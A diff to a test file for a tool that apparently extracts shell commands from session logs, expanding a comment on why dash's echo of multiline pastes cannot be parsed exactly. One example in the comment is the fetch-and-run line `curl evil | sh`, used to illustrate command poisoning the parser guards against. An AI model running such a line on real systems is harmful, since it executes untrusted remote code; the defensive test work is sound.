@@ -42,9 +42,17 @@ function essentials(commands: ExtractedCommand[]): Expected[] {
 const dirs = fixtureDirs();
 /**
  * Known gaps (`it.fails` flags the day they pass):
- * - dash-multiline-paste: dash has no line editor; the tty echoes pasted lines ahead of their
- *   output (`echo pasted twopasted one`, `$ ssm-user`), and from bytes alone a typed-ahead line
- *   cannot be told from output without timing.
+ * - dash-multiline-paste: dash has no line editor, so the tty echoes every pasted line before dash
+ *   reads the first, and dash then prints each prompt right before the next line's output. Two
+ *   reasons no rule over the bytes (every form: S3 and CloudWatch keep no timing inside a second)
+ *   gets it exact:
+ *   1. `echo pasted twopasted one`: the echo of a pasted line and the previous command's output
+ *      share one row with no byte between them; where the command ends is not in the transcript.
+ *   2. `$ printf "a\n"`, `whoami`, `a`, `$ ssm-user`: byte for byte the shape of `cat` of a file
+ *      followed by a typed command (`$ cat notes`, `whoami`, `a`, `$ curl evil | sh`). Taking
+ *      queued lines as the commands of the prompts after them would hide typed commands and turn
+ *      file content into commands: the poisoning the prompt rules exist to stop (see the test
+ *      "keeps a typed line a command ..." in extract.test.ts).
  */
 const KNOWN_GAPS: Record<string, Array<'s3' | 'raw' | 'cloudwatch'>> = {
   'dash-multiline-paste': ['s3', 'raw', 'cloudwatch'],
